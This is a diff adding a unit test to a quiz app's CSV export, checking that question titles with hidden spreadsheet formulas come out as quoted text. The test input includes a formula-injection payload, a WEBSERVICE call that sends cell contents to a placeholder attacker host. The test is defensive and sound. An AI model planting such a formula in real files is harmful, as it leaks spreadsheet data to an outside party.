@@ -60,4 +60,15 @@ describe("the export", () => {
     expect(exportFileName("Tour de Lyon : été !", Date.UTC(2025, 6, 14, 20), "reponses")).toBe("repere-tour-de-lyon-ete-2025-07-14-reponses.csv");
     expect(exportFileName("???", null, "totaux")).toBe("repere-quiz-partie-totaux.csv");
   });
+
+  it("writes a title that hides a formula after a separator as text, in one quoted cell", () => {
+    const attack = { ...input, questions: [{ title: 'x,=WEBSERVICE("https://evil.example/?"&A1)' }, { title: "Lyon;-1+1" }] };
+    const csv = answersCsv(attack);
+    expect(csv).toContain(';"x,\'=WEBSERVICE(""https://evil.example/?""&A1)";');
+    expect(csv).toContain(`;"Lyon;'-1+1";`);
+    // Each line still has its 11 cells, and Longitude keeps its minus sign as a number.
+    const rows = parseCsv(csv);
+    expect(rows.every((r) => r.length === 11)).toBe(true);
+    expect(rows[1]![6]).toBe("-2,294500");
+  });
 });
